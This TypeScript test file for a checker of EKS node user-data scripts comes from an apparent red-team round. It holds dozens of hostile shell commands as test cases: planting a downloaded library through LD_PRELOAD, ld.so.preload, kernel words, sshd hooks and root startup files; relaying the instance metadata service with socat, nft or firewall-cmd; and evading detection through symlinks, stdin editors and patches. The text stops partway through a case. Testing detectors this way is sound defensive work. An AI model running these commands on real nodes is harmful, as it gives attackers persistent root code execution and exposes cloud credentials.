// Red-team round 74 on EKS NODE user data (neighbours of round 74's node fixes: the UNKNOWN-program-naming-a-judged-file
// rule, perl/ruby/awk/sed in-place edits, kernel words, sshd, other shells' startup files, cron/at, packages).
// Probed: unknown editors reaching a judged file without naming it absolutely (bare relative word after cd, git -C,
// GIT_CONFIG_SYSTEM env var, augtool/ex commands on stdin, patch, stuck `-f/path` option, $VAR, xargs stdin, find
// -exec, mount --bind, a symlink, exec 3>>, non-normal paths, pushd, sed -f, vim -Es); in-place spellings (perl -pi.bak
// -E, -0777 -i, ruby -i.orig, gawk -iinplace, awk -i inplace.awk, sed --in-place=, busybox sed -i); kernel words (bare
// LD_PRELOAD=, init=, systemd.run=, /usr/lib/kernel/cmdline, install.d plugins, a quoted whole word); sshd
// (AuthorizedKeysCommand root, sshrc, PermitUserEnvironment); root's other startup files (.bashrc.d, .bash_login, fish
// config/vendor_conf.d, .tcshrc); crontab/at/anacrontab IMDS relays; readers the unknown-editor rule refuses.
// Misses (13 insecure, 11 secure):
// - UNKNOWN-EDITOR-REACH (8: U1, U2, U3, U4, U5, U6, U11, U17): rootReads.ts unknownEditor sees only absolute (or
//   dotted relative) operands: resolve bare relative words, -C dirs, NAME=/path prefixes, stuck `-f/path`, stdin
//   heredocs of command readers (augtool/ex), patch's own names (fail closed), writes through symlinks.
// - IN-PLACE (2: U15, I7): sed -i -f of an unread script; `busybox sed -i` (applets not mapped for readers).
// - KERNEL-WORDS (2: K1, K6): a dot-free NAME=VALUE word is init's environment (LD_PRELOAD into PID 1); a wholly
//   double-quoted word is unquoted by the kernel and systemd.
// - LD-SO-CONF (1, lower priority: R4): /etc/ld.so.conf.d adding /opt/lib (a downloaded libc.so.6) before /lib64.
// - READER-OVER-REFUSAL (secure, 10: S22-S28, S30-S32): lsattr, od/xxd, strings/hexdump, namei, rpm -q/-V, awk without
//   -i, tar -c to /root, inotifywait, vim -R +q, setfattr are refused as unknown editors: extend CONTENT_KEEPERS.
// - ROOT-BASHRC.D (secure, 1: S11): /root/.bashrc.d/* (sourced by Fedora's .bashrc) fails closed even for LANG.
// Held (insecure refused 33 of 46): nft/firewall-cmd/ip6tables DNAT and systemd-socket-proxyd relays to IMDS, $VAR
// paths, xargs, find -exec, mount --bind, exec 3>>, ../ and // paths, pushd, vim -Es, perl/ruby/gawk/sed --in-place spellings, init=, /usr/lib/kernel/cmdline, systemd.run= and install.d
// plugins running an IMDS relay, AuthorizedKeysCommand, sshrc, ~/.ssh/environment, root's other shells' startup
// files, crontab -/at/anacrontab relays.
// Secure clean 21 of 32. Left as consistent, not misses (S15-S21): cron/at/anacrontab/systemd.run=/install.d/rpm/dnf
// running downloaded software, since user data running /opt/x directly is accepted (the operator's own software).
import { describeNodeCases, devNodeCase, devNodeScript, heredocFile, NodeCase } from "./nodeBuilders";

const file = heredocFile;
const SO = "curl -fsSL -o /opt/x.so https://downloads.example.com/x.so";
const BIN = "curl -fsSL -o /opt/x https://downloads.example.com/x && chmod 755 /opt/x";
const LOADER = /loader|LD_PRELOAD|LD_AUDIT|BASH_ENV|PATH|environment|kernel|unknown|cannot|unread|shell|root/i;
const n = (id: string) => `dev-${id}-74n-nodes`;

const insecure: NodeCase[] = [
    // ---- UNKNOWN-EDITOR neighbours ----
    // Was a MISS (fixed in round 75): moreutils sponge(1): "sponge reads standard input and writes it out to the specified file" (-a appends); after `cd /etc` the bare word `environment` is /etc/environment (pam_env(8) gives its LD_PRELOAD to root's sessions). Accepted (got []): rootReads.ts RootReads.unknownEditor adds a relative word only when it has a `/` or `.` (`crictl rmi` guard). Fix: resolve every relative word against a known cwd and judge it when it IS a judged file (the judge decides; a bare subcommand names no judged file).
    devNodeCase(
        "U1 cd /etc then an unknown editor (sponge) names `environment` by a bare relative word",
        devNodeScript(n("u1"), [
            SO,
            "dnf install -y moreutils",
            "cd /etc",
            "echo 'LD_PRELOAD=/opt/x.so' | sponge -a environment",
        ]),
        LOADER,
    ),
    // Was a MISS (fixed in round 75): git(1) "-C <path>: Run as if git was started in <path> instead of the current working directory"; `config -f system.conf` then writes /etc/systemd/system.conf [Manager] DefaultEnvironment=LD_PRELOAD (systemd-system.conf(5): every unit's environment). Accepted (got []): rootReads.ts RootReads.unknownEditor resolves `system.conf` against the script's cwd, not git's -C. Fix: a program's -C/--directory/--work-tree (git, make, tar) is its cwd for relative operands; an unknown -C value: judge every judged file of that basename.
    devNodeCase(
        "U2 git -C /etc/systemd config -f system.conf (path relative to -C)",
        devNodeScript(n("u2"), [
            SO,
            "git -C /etc/systemd config -f system.conf Manager.DefaultEnvironment LD_PRELOAD=/opt/x.so",
        ]),
        LOADER,
    ),
    // Was a MISS (fixed in round 75): git-config(1) ENVIRONMENT "GIT_CONFIG_SYSTEM: Take system-wide configuration from this file instead of $(prefix)/etc/gitconfig"; `--system` writes there, so [Manager] DefaultEnvironment=LD_PRELOAD lands in system.conf. Accepted (got []): rootReads.ts RootReads.unknownEditor reads operands only, not the command's NAME=VALUE prefix assignments. Fix: paths in a command's assignment prefixes (and `env NAME=/path prog`) are names the program may write: judge them as operands.
    devNodeCase(
        "U3 GIT_CONFIG_SYSTEM=/etc/systemd/system.conf git config --system (file named by an env var)",
        devNodeScript(n("u3"), [
            SO,
            "GIT_CONFIG_SYSTEM=/etc/systemd/system.conf git config --system Manager.DefaultEnvironment LD_PRELOAD=/opt/x.so",
        ]),
        LOADER,
    ),
    // Was a MISS (fixed in round 75): augtool(1): "If no COMMAND is given, commands are read from standard input"; -s "Automatically save at the end of instructions"; /files/etc/environment is the file (Augeas). Accepted (got []): rootReads.ts RootReads.unknownEditor reads operands only; the heredoc holds the path. Fix: an unknown editor's literal stdin (heredoc, here-string, echo/printf pipe) is read for paths like its operands (/files/ prefixes as now); unread stdin with no file operand: fail closed for augtool/ex/ed-style command readers.
    devNodeCase(
        "U4 augtool -s with its commands on stdin",
        devNodeScript(n("u4"), [SO, "augtool -s <<'EOF'", "set /files/etc/environment/LD_PRELOAD /opt/x.so", "EOF"]),
        LOADER,
    ),
    // Was a MISS (fixed in round 75): patch(1): "patch takes a patch file patchfile containing a difference listing ... and applies those differences to one or more original files" (the names are the patch's own, -p0 from /); a downloaded patch naming /etc/ld.so.preload (ld.so(8): preloaded into every program) writes it. Accepted (got []): patch names no file, so RootReads.unknownEditor has no path. Fix: patch/git apply/quilt with an unread patch (stdin or -i FILE) may write any file under its -d directory or cwd (the whole tree when unknown): writtenUnknown over every judged file there.
    devNodeCase(
        "U5 patch -p0 of a downloaded patch naming /etc/ld.so.preload (stdin)",
        devNodeScript(n("u5"), [
            SO,
            "curl -fsSL -o /tmp/ops.patch https://downloads.example.com/ops.patch",
            "cd / && patch -p0 < /tmp/ops.patch",
        ]),
        LOADER,
    ),
    // Was a MISS (fixed in round 75): gitcli(7): options taking a value may be given in the stuck form (`-oArg`), so `git config -f/etc/systemd/system.conf` is `--file /etc/systemd/system.conf` (git-config(1)) and writes DefaultEnvironment=LD_PRELOAD. Accepted (got []): rootReads.ts RootReads.unknownEditor skips every word starting with `-` unless it is `--name=`/`-x=`. Fix: also take the path after a short option letter (`-[A-Za-z]/...`; `-[A-Za-z].+` when the rest is a judged file).
    devNodeCase(
        "U6 git config -f/etc/systemd/system.conf (the stuck short-option form)",
        devNodeScript(n("u6"), [
            SO,
            "git config -f/etc/systemd/system.conf Manager.DefaultEnvironment LD_PRELOAD=/opt/x.so",
        ]),
        LOADER,
    ),
    // Round 75 neighbours of U1-U3/U6: the working directory a wrapper sets (env -C), chained git -C, a -C the pack
    // cannot know (fail closed), env NAME=/path, and a stuck option's relative file.
    devNodeCase(
        "U1b env -C /etc sponge -a environment (the wrapper's working directory)",
        devNodeScript(n("u1b"), [SO, "echo 'LD_PRELOAD=/opt/x.so' | env -C /etc sponge -a environment"]),
        LOADER,
    ),
    devNodeCase(
        "U2b git -C /etc -C systemd config -f system.conf (chained -C, each relative to the last)",
        devNodeScript(n("u2b"), [
            SO,
            "git -C /etc -C systemd config -f system.conf Manager.DefaultEnvironment LD_PRELOAD=/opt/x.so",
        ]),
        LOADER,
    ),
    devNodeCase(
        "U2c git -C of a directory the pack cannot know, config -f system.conf (fail closed)",
        devNodeScript(n("u2c"), [
            SO,
            'git -C "$(cat /tmp/dir)" config -f system.conf Manager.DefaultEnvironment LD_PRELOAD=/opt/x.so',
        ]),
        /unknown|cannot/i,
    ),
    devNodeCase(
        "U3b env GIT_CONFIG_SYSTEM=/etc/systemd/system.conf git config --system",
        devNodeScript(n("u3b"), [
            SO,
            "env GIT_CONFIG_SYSTEM=/etc/systemd/system.conf git config --system Manager.DefaultEnvironment LD_PRELOAD=/opt/x.so",
        ]),
        LOADER,
    ),
    devNodeCase(
        "U6b cd /etc/systemd; git config -fsystem.conf (stuck option, relative file)",
        devNodeScript(n("u6b"), [
            SO,
            "cd /etc/systemd",
            "git config -fsystem.conf Manager.DefaultEnvironment LD_PRELOAD=/opt/x.so",
        ]),
        LOADER,
    ),
    devNodeCase(
        'U7 path through a variable: F=/etc/ld.so.preload; sponge "$F"',
        devNodeScript(n("u7"), [SO, "F=/etc/ld.so.preload", 'echo /opt/x.so | sponge "$F"']),
        LOADER,
    ),
    devNodeCase(
        "U8 xargs reads the path from stdin: echo /etc/ld.so.preload | xargs -n1 sponge",
        devNodeScript(n("u8"), [SO, "echo /etc/ld.so.preload | xargs -I{} sh -c 'echo /opt/x.so | sponge {}'"]),
        LOADER,
    ),
    devNodeCase(
        "U9 find /etc -name ld.so.preload -exec sponge {} (path found, not named)",
        devNodeScript(n("u9"), [
            SO,
            "touch /etc/ld.so.preload",
            "find /etc -maxdepth 1 -name 'ld.so.preload' -exec sh -c 'echo /opt/x.so > \"$1\"' _ {} \\;",
        ]),
        LOADER,
    ),
    devNodeCase(
        "U10 mount --bind a downloaded file over /etc/ld.so.preload",
        devNodeScript(n("u10"), [SO, "echo /opt/x.so > /opt/preload", "mount --bind /opt/preload /etc/ld.so.preload"]),
        LOADER,
    ),
    // Was a MISS (fixed in round 75): path_resolution(7)/open(2): opening a symbolic link follows it (O_CREAT included; bash redirections use no O_NOFOLLOW), so `ln -sf /etc/ld.so.preload /tmp/p; echo /opt/x.so > /tmp/p` writes /etc/ld.so.preload (ld.so(8): preloaded into every program). Accepted (got []): redirections are judged at their literal path; ln -s makes /tmp/p unknown only. Fix: record symlinks user data makes (ln -s/-sf, cp -s) and judge writes through them at their targets (a link with an unknown target: fail closed on writes through it).
    devNodeCase(
        "U11 write through a symlink: ln -sf /etc/ld.so.preload /tmp/p; echo > /tmp/p",
        devNodeScript(n("u11"), [SO, "ln -sf /etc/ld.so.preload /tmp/p", "echo /opt/x.so > /tmp/p"]),
        LOADER,
    ),
    // Round 75 neighbours of U11: a link to a directory, tee and a cp through a link, a hard link, a link whose target
    // the pack cannot know (fail closed).
    devNodeCase(
        "U11b write below a symlink to /etc: ln -s /etc /tmp/e; echo > /tmp/e/ld.so.preload",
        devNodeScript(n("u11b"), [SO, "ln -s /etc /tmp/e", "echo /opt/x.so > /tmp/e/ld.so.preload"]),
        LOADER,
    ),
    devNodeCase(
        "U11c tee through a relative symlink made in /tmp",
        devNodeScript(n("u11c"), [
            SO,
            "cd /tmp && ln -sf ../etc/ld.so.preload p",
            "echo /opt/x.so | tee -a /tmp/p >/dev/null",
        ]),
        LOADER,
    ),
    devNodeCase(
        "U11d cp a downloaded file onto a symlink to /etc/environment",
        devNodeScript(n("u11d"), [
            SO,
            "curl -fsSL -o /opt/env https://downloads.example.com/env",
            "ln -s /etc/environment /tmp/env",
            "cp /opt/env /tmp/env",
        ]),
        LOADER,
    ),
    devNodeCase(
        "U11e write to a hard link of /etc/ld.so.preload",
        devNodeScript(n("u11e"), [
            SO,
            "touch /etc/ld.so.preload",
            "ln /etc/ld.so.preload /tmp/p",
            "echo /opt/x.so > /tmp/p",
        ]),
        LOADER,
    ),
    devNodeCase(
        "U11f write through a symlink whose target the pack cannot know (fail closed)",
        devNodeScript(n("u11f"), [SO, 'ln -sf "$(cat /tmp/target)" /tmp/p', "echo /opt/x.so > /tmp/p"]),
        /link|unknown|cannot/i,
    ),
    devNodeCase(
        "U12 exec 3>>/etc/ld.so.preload then echo >&3",
        devNodeScript(n("u12"), [SO, "exec 3>>/etc/ld.so.preload", "echo /opt/x.so >&3", "exec 3>&-"]),
        LOADER,
    ),
    devNodeCase(
        "U13 redirection to a non-normal path /etc/../etc//ld.so.preload",
        devNodeScript(n("u13"), [SO, "echo /opt/x.so >> /etc/../etc//ld.so.preload"]),
        LOADER,
    ),
    devNodeCase(
        "U14 pushd /etc/profile.d then a relative redirection",
        devNodeScript(n("u14"), [SO, "pushd /etc/profile.d", "echo 'export LD_PRELOAD=/opt/x.so' > ops.sh", "popd"]),
        LOADER,
    ),
    // Was a MISS (fixed in round 75): sed(1) "-f script-file, --file=script-file: add the contents of script-file to the commands to be executed"; with -i the downloaded script's `$a LD_PRELOAD=...` edits /etc/environment (pam_env(8)). Accepted (got []): the sed -i reader judges only inline scripts, the -f file unread. Fix: sed -i with -f/--file of a file whose content is unknown makes the edited files' content unknown (fail closed).
    devNodeCase(
        "U15 sed -i -f of a downloaded sed script on /etc/environment",
        devNodeScript(n("u15"), [
            SO,
            "curl -fsSL -o /tmp/e.sed https://downloads.example.com/e.sed",
            "sed -i -f /tmp/e.sed /etc/environment",
        ]),
        LOADER,
    ),
    devNodeCase(
        "U16 vim -Es with ex commands on the command line editing /etc/environment",
        devNodeScript(n("u16"), [SO, "vim -Es +'$put =\"LD_PRELOAD=/opt/x.so\"' +wq /etc/environment"]),
        LOADER,
    ),
    // Was a MISS (fixed in round 75): vim(1) "-s: Silent mode ... only when started as Ex", commands read from stdin; `:e /etc/environment` opens it, `$a` appends, `wq` writes (ex(1)). Accepted (got []): ex names no file operand, so RootReads.unknownEditor has no path. Fix: read paths in an ex/vi/vim/ed/augtool stdin heredoc like operands (or fail closed when ex/ed run with unread stdin commands).
    devNodeCase(
        "U17 ex -s with commands on stdin, file opened by :e (no operand)",
        devNodeScript(n("u17"), [
            SO,
            "ex -s <<'EOF'",
            "e /etc/environment",
            "$a",
            "LD_PRELOAD=/opt/x.so",
            ".",
            "wq",
            "EOF",
        ]),
        LOADER,
    ),
    // Round 75 neighbours of U4/U5/U15/U17: the commands read from a pipe, a here-string, augtool -f and a relative
    // Augeas path (the context /files: augtool(1)), ed(1) "!command" (a shell), an unread command file on stdin, a
    // literal patch naming /etc/environment (git apply), patch -i of a download, sed -f of a download without -i
    // (sed(1) `w FILE` may write anywhere).
    devNodeCase(
        "U4b augtool -s with a here-string and a path relative to /files",
        devNodeScript(n("u4b"), [SO, "augtool -s <<< 'set etc/environment/LD_PRELOAD /opt/x.so'"]),
        LOADER,
    ),
    devNodeCase(
        "U4c augtool -s -f of a downloaded command file",
        devNodeScript(n("u4c"), [
            SO,
            "curl -fsSL -o /tmp/ops.aug https://downloads.example.com/ops.aug",
            "augtool -s -f /tmp/ops.aug",
        ]),
        LOADER,
    ),
    devNodeCase(
        "U4d augtool -s with commands piped from echo",
        devNodeScript(n("u4d"), [SO, "echo 'set /files/etc/environment/LD_PRELOAD /opt/x.so' | augtool -s"]),
        LOADER,
    ),
    devNodeCase(
        "U17b ed -s of a harmless file whose commands run a shell (!)",
        devNodeScript(n("u17b"), [
            SO,
            "ed -s /opt/notes.txt <<'EOF'",
            "!echo LD_PRELOAD=/opt/x.so >> /etc/environment",
            "q",
            "EOF",
        ]),
        LOADER,
    ),
    devNodeCase(
        "U17c ex -s with its commands from a downloaded file on stdin",
        devNodeScript(n("u17c"), [
            SO,
            "curl -fsSL -o /tmp/ops.ex https://downloads.example.com/ops.ex",
            "ex -s < /tmp/ops.ex",
        ]),
        LOADER,
    ),
    devNodeCase(
        "U5b git -C / apply (from /opt) of a literal patch naming etc/environment",
        devNodeScript(n("u5b"), [
            SO,
            "cd /opt && git -C / apply -p1 <<'EOF'",
            "--- a/etc/environment",
            "+++ b/etc/environment",
            "@@ -1 +1,2 @@",
            " LANG=C.UTF-8",
            "+LD_PRELOAD=/opt/x.so",
            "EOF",
        ]),
        LOADER,
    ),
    devNodeCase(
        "U5c patch -i of a downloaded patch with -d /etc",
        devNodeScript(n("u5c"), [
            SO,
            "curl -fsSL -o /tmp/ops.patch https://downloads.example.com/ops.patch",
            "patch -d /etc -p1 -i /tmp/ops.patch",
        ]),
        LOADER,
    ),
    devNodeCase(
        "U15b sed -n -f of a downloaded script (its w command may write any file)",
        devNodeScript(n("u15b"), [
            SO,
            "curl -fsSL -o /tmp/e.sed https://downloads.example.com/e.sed",
            "sed -n -f /tmp/e.sed /opt/notes.txt > /dev/null",
        ]),
        LOADER,
    ),
    devNodeCase(
        "U15c sed -i -f of a written script appending LD_PRELOAD to /etc/environment",
        devNodeScript(n("u15c"), [
            SO,
            ...file("/tmp/e.sed", ["$a LD_PRELOAD=/opt/x.so"]),
            "sed -i -f /tmp/e.sed /etc/environment",
        ]),
        LOADER,
    ),
    // ---- in-place editors ----
    devNodeCase(
        "I1 perl -pi.bak -E (capital E, backup suffix)",
        devNodeScript(n("i1"), [SO, "perl -pi.bak -E 'say \"LD_PRELOAD=/opt/x.so\" if eof' /etc/environment"]),
        LOADER,
    ),
    devNodeCase(
        "I2 perl -0777 -i -pe appending",
        devNodeScript(n("i2"), [SO, "perl -0777 -i -pe 's/\\z/\\nLD_PRELOAD=\\/opt\\/x.so\\n/' /etc/environment"]),
        LOADER,
    ),
    devNodeCase(
        "I3 ruby -i.orig -pe",
        devNodeScript(n("i3"), [
            SO,
            "ruby -i.orig -pe '$_ << \"LD_PRELOAD=/opt/x.so\\n\" if $<.eof?' /etc/environment",
        ]),
        LOADER,
    ),
    devNodeCase(
        "I4 gawk -iinplace (attached) and awk -i /usr/share/awk/inplace.awk",
        devNodeScript(n("i4"), [
            SO,
            "gawk -iinplace '{print} ENDFILE{print \"LD_PRELOAD=/opt/x.so\"}' /etc/environment",
        ]),
        LOADER,
    ),
    devNodeCase(
        "I5 awk -i /usr/share/awk/inplace.awk (library by path)",
        devNodeScript(n("i5"), [
            SO,
            "awk -i /usr/share/awk/inplace.awk '{print} ENDFILE{print \"LD_PRELOAD=/opt/x.so\"}' /etc/environment",
        ]),
        LOADER,
    ),
    devNodeCase(
        "I6 sed --in-place=.bak --expression",
        devNodeScript(n("i6"), [SO, "sed --in-place=.bak --expression='$a LD_PRELOAD=/opt/x.so' /etc/environment"]),
        LOADER,
    ),
    // Was a MISS (fixed in round 75): BusyBox docs, sed applet: "-i[SFX] Edit files in-place (otherwise write to stdout)"; `busybox sed -i '$a LD_PRELOAD=/opt/x.so' /etc/environment` is GNU sed's edit. Accepted (got []): rootReads.ts maps busybox/toybox applets only for copiers and shells (copierWords/appletWords); the interpreter in-place reader skips `busybox` (rootReads.ts `/^(source|\.|busybox)$/`), and unknownEditor does not see it either. Fix: replace `busybox X`/`toybox X` by X before every reader (sed -i, perl/awk in-place, unknownEditor).
    devNodeCase(
        "I7 busybox sed -i",
        devNodeScript(n("i7"), [SO, "busybox sed -i '$a LD_PRELOAD=/opt/x.so' /etc/environment"]),
        LOADER,
    ),
    // Round 75 neighbours of I7: toybox's sed applet, and busybox named by its path appending to /etc/ld.so.preload.
    devNodeCase(
        "I7b toybox sed -i",
        devNodeScript(n("i7b"), [SO, "toybox sed -i '$a LD_PRELOAD=/opt/x.so' /etc/environment"]),
        LOADER,
    ),
    devNodeCase(
        "I7c /bin/busybox sed -i appending to /etc/ld.so.preload",
        devNodeScript(n("i7c"), [SO, "/bin/busybox sed -i '$a /opt/x.so' /etc/ld.so.preload"]),
        LOADER,
    ),

    // ---- kernel command line: words and files left ----
    // Was a MISS (fixed in round 74): Linux admin-guide kernel-parameters.rst: "if it doesn't recognize a parameter and it doesn't contain a '.', the parameter gets passed to init: parameters with '=' go into init's environment"; LD_PRELOAD=/opt/x.so is in PID 1's environment when the kernel execs systemd, and ld.so(8) preloads it into PID 1 (root, every boot). Accepted (got []): userDataReaders/formats.ts kernelArgsOpenings reads only its listed shell words and systemd.setenv=. Fix: every dot-free NAME=VALUE word before `--` is init's environment: judge it with managerLoaderOpenings; words after `--` are init's arguments (fail closed).
    devNodeCase(
        "K1 kernel word LD_PRELOAD=/opt/x.so (no dot: the kernel puts it in init's environment)",
        devNodeScript(n("k1"), [SO, "grubby --update-kernel=ALL --args='LD_PRELOAD=/opt/x.so'"]),
        LOADER,
    ),
    // Round 74 neighbours of K1: a quoted value (kernel/params.c next_arg drops the value's quotes), another loader
    // variable, and words after `--` (kernel-parameters.rst: "Everything after -- is passed as an argument to init").
    devNodeCase(
        'K1b kernel word BASH_ENV="/opt/x" (quoted value, init\'s environment)',
        devNodeScript(n("k1b"), [BIN, "grubby --update-kernel=ALL --args='quiet BASH_ENV=\"/opt/x\"'"]),
        LOADER,
    ),
    devNodeCase(
        "K1c kernel words after -- (init's own arguments)",
        devNodeScript(n("k1c"), ["grubby --update-kernel=ALL --args='quiet -- --unit=rescue.target'"]),
        /init|kernel|argument/i,
    ),
    devNodeCase(
        "K2 kernel word init=/opt/x (a downloaded init)",
        devNodeScript(n("k2"), [BIN, "grubby --update-kernel=ALL --args='init=/opt/x'"]),
        LOADER,
    ),
    devNodeCase(
        "K4 /usr/lib/kernel/cmdline (kernel-install's second file)",
        devNodeScript(n("k4"), [
            SO,
            'echo "$(cat /proc/cmdline) systemd.setenv=LD_PRELOAD=/opt/x.so" > /usr/lib/kernel/cmdline',
            'kernel-install add "$(uname -r)" "/lib/modules/$(uname -r)/vmlinuz"',
        ]),
        LOADER,
    ),
    // Was a MISS (fixed in round 74): kernel-parameters.rst "Double-quotes can be used to protect spaces in values"; kernel/params.c next_arg strips a leading `"` of the whole word and systemd's proc_cmdline parsing unquotes words, so `"systemd.setenv=LD_PRELOAD=/opt/x.so"` sets PID 1's environment (kernel-command-line(7)). Accepted (got []): formats.ts kernelArgsOpenings' setenv regex wants `systemd.setenv=` at the word's start. Fix: unquote each kernel word (next_arg rules) before matching.
    devNodeCase(
        'K6 quoted kernel word "systemd.setenv=LD_PRELOAD=/opt/x.so" in GRUB_CMDLINE_LINUX',
        devNodeScript(n("k6"), [
            SO,
            'echo \'GRUB_CMDLINE_LINUX="console=ttyS0 \\"systemd.setenv=LD_PRELOAD=/opt/x.so\\""\' >> /etc/default/grub',
            "grub2-mkconfig -o /boot/grub2/grub.cfg",
        ]),
        LOADER,
    ),
    // Round 74 neighbour of K6: a quoted init= word in GRUB_CMDLINE_LINUX (next_arg unquotes it the same way).
    devNodeCase(
        'K6b quoted kernel word "init=/bin/bash" in GRUB_CMDLINE_LINUX',
        devNodeScript(n("k6b"), [
            'echo \'GRUB_CMDLINE_LINUX="console=ttyS0 \\"init=/bin/bash\\""\' >> /etc/default/grub',
            "grub2-mkconfig -o /boot/grub2/grub.cfg",
        ]),
        LOADER,
    ),
    // ---- sshd and shells ----
    devNodeCase(
        "H1 sshd AuthorizedKeysCommand of a downloaded program run as root",
        devNodeScript(n("h1"), [
            BIN,
            "printf 'AuthorizedKeysCommand /opt/x %%u\\nAuthorizedKeysCommandUser root\\n' > /etc/ssh/sshd_config.d/50-keys.conf",
            "systemctl reload sshd",
        ]),
        LOADER,
    ),
    devNodeCase(
        "H2 /etc/ssh/sshrc running a downloaded program at every login",
        devNodeScript(n("h2"), [BIN, "echo '/opt/x' > /etc/ssh/sshrc"]),
        LOADER,
    ),
    devNodeCase(
        "H3 /root/.ssh/environment + PermitUserEnvironment LD_PRELOAD",
        devNodeScript(n("h3"), [
            SO,
            "echo 'PermitUserEnvironment LD_PRELOAD' > /etc/ssh/sshd_config.d/50-env.conf",
            "mkdir -p /root/.ssh",
            "echo 'LD_PRELOAD=/opt/x.so' > /root/.ssh/environment",
        ]),
        LOADER,
    ),
    devNodeCase(
        "B1 /root/.bashrc.d/ops.sh (sourced by AL2023's root .bashrc)",
        devNodeScript(n("b1"), [
            SO,
            "mkdir -p /root/.bashrc.d",
            "echo 'export LD_PRELOAD=/opt/x.so' > /root/.bashrc.d/ops.sh",
        ]),
        LOADER,
    ),
    devNodeCase(
        "B2 /root/.profile and /root/.bash_login",
        devNodeScript(n("b2"), [SO, "echo 'export LD_PRELOAD=/opt/x.so' >> /root/.bash_login"]),
        LOADER,
    ),
    devNodeCase(
        "B3 /root/.config/fish/config.fish",
        devNodeScript(n("b3"), [
            SO,
            "dnf install -y fish",
            "mkdir -p /root/.config/fish",
            "echo 'set -gx LD_PRELOAD /opt/x.so' > /root/.config/fish/config.fish",
        ]),
        LOADER,
    ),
    devNodeCase(
        "B4 /root/.tcshrc setenv LD_PRELOAD",
        devNodeScript(n("b4"), [SO, "echo 'setenv LD_PRELOAD /opt/x.so' >> /root/.tcshrc"]),
        LOADER,
    ),
    devNodeCase(
        "B5 /usr/share/fish/vendor_conf.d/ops.fish",
        devNodeScript(n("b5"), [
            SO,
            "dnf install -y fish",
            "echo 'set -gx LD_PRELOAD /opt/x.so' > /usr/share/fish/vendor_conf.d/ops.fish",
        ]),
        LOADER,
    ),
    // ---- cron, at, packages ----
    devNodeCase(
        "K7 kernel word systemd.run= of an IMDS relay (systemd-run-generator runs it at boot)",
        devNodeScript(n("k7"), [
            "dnf install -y socat",
            "grubby --update-kernel=ALL --args='systemd.run=\"/usr/bin/socat TCP-LISTEN:8080,fork,reuseaddr TCP:169.254.169.254:80\"'",
        ]),
        /instance metadata|relay|socat|kernel|unknown/i,
    ),
    devNodeCase(
        "K8 /etc/kernel/install.d plugin script running an IMDS relay",
        devNodeScript(n("k8"), [
            "dnf install -y socat",
            ...file("/etc/kernel/install.d/99-ops.install", [
                "#!/bin/sh",
                "nohup socat TCP-LISTEN:8080,fork,reuseaddr TCP:169.254.169.254:80 &",
            ]),
            "chmod 755 /etc/kernel/install.d/99-ops.install",
        ]),
        /instance metadata|relay|socat|unknown/i,
    ),
    devNodeCase(
        "C6 crontab - (stdin) @reboot IMDS relay",
        devNodeScript(n("c6"), [
            "dnf install -y socat",
            "echo '@reboot socat TCP-LISTEN:8080,fork,reuseaddr TCP:169.254.169.254:80' | crontab -",
        ]),
        /instance metadata|relay|socat|unknown/i,
    ),
    devNodeCase(
        "C7 at now (stdin) IMDS relay",
        devNodeScript(n("c7"), [
            "dnf install -y socat",
            "echo 'socat TCP-LISTEN:8080,fork,reuseaddr TCP:169.254.169.254:80' | at now + 1 minute",
        ]),
        /instance metadata|relay|socat|unknown/i,
    ),
    devNodeCase(
        "C8 /etc/anacrontab IMDS relay",
        devNodeScript(n("c8"), [
            "dnf install -y socat",
            "echo '1 5 ops socat TCP-LISTEN:8080,fork,reuseaddr TCP:169.254.169.254:80' >> /etc/anacrontab",
        ]),
        /instance metadata|relay|socat|unknown/i,
    ),
    // ---- IMDS reach and loader paths (other spellings) ----
    devNodeCase(
        "R1 nft DNAT of port 8080 to IMDS with masquerade",
        devNodeScript(n("r1"), [
            "sysctl -w net.ipv4.ip_forward=1",
            "nft add table ip ops",
            "nft 'add chain ip ops pre { type nat hook prerouting priority -100; }'",
            "nft 'add chain ip ops post { type nat hook postrouting priority 100; }'",
            "nft add rule ip ops pre tcp dport 8080 dnat to 169.254.169.254:80",
            "nft add rule ip ops post ip daddr 169.254.169.254 masquerade",
        ]),
        /instance metadata|169\.254|relay|proxy|forward|DNAT|unknown|cannot/i,
    ),
    devNodeCase(
        "R2 firewall-cmd forward port to IMDS",
        devNodeScript(n("r2"), [
            "firewall-cmd --permanent --add-masquerade",
            "firewall-cmd --permanent --add-forward-port=port=8080:proto=tcp:toport=80:toaddr=169.254.169.254",
            "firewall-cmd --reload",
        ]),
        /instance metadata|169\.254|relay|proxy|forward|DNAT|unknown|cannot/i,
    ),
    devNodeCase(
        "R3 systemd-socket-proxyd to IMDS behind a .socket on 0.0.0.0:8080",
        devNodeScript(n("r3"), [
            ...file("/etc/systemd/system/imds-proxy.socket", [
                "[Socket]",
                "ListenStream=0.0.0.0:8080",
                "[Install]",
                "WantedBy=sockets.target",
            ]),
            ...file("/etc/systemd/system/imds-proxy.service", [
                "[Service]",
                "ExecStart=/usr/lib/systemd/systemd-socket-proxyd 169.254.169.254:80",
            ]),
            "systemctl daemon-reload",
            "systemctl enable --now imds-proxy.socket",
        ]),
        /instance metadata|169\.254|relay|proxy|forward|DNAT|unknown|cannot/i,
    ),
    // Was a MISS (fixed in round 75): ld.so(8) "the libraries are searched ... in the cache file /etc/ld.so.cache", which ldconfig(8) builds from "the
    // directories specified ... in the file /etc/ld.so.conf, and in the trusted directories (/lib and /usr/lib)", conf
    // directories first (lower priority: verify the cache order on AL2023's glibc): a downloaded libc.so.6 in /opt/lib is
    // then loaded by every dynamically linked root program, as an /etc/ld.so.preload entry is (refused: U7-U13).
    // Accepted (got []): /etc/ld.so.conf.d writes are not judged as loader configuration. Fix: judge /etc/ld.so.conf(.d)
    // directories as loader paths (only root-owned system library directories, as PATH's rule).
    devNodeCase(
        "R4 /etc/ld.so.conf.d directory first in the cache with a downloaded libc.so.6",
        devNodeScript(n("r4"), [
            "mkdir -p /opt/lib",
            "curl -fsSL -o /opt/lib/libc.so.6 https://downloads.example.com/libc.so.6",
            "echo /opt/lib > /etc/ld.so.conf.d/00-ops.conf",
            "ldconfig",
        ]),
        LOADER,
    ),
    // Round 75 neighbours of R4: /etc/ld.so.conf itself, an `include` of files the pack does not judge, a list of
    // directories (ldconfig(8): whitespace, `:` or `,` separated) hiding one non-system directory among system ones.
    devNodeCase(
        "R4b /etc/ld.so.conf appended with /opt/lib",
        devNodeScript(n("r4b"), [SO, "echo /opt/lib >> /etc/ld.so.conf", "ldconfig"]),
        LOADER,
    ),
    devNodeCase(
        "R4c /etc/ld.so.conf.d include of /opt/ops/*.conf",
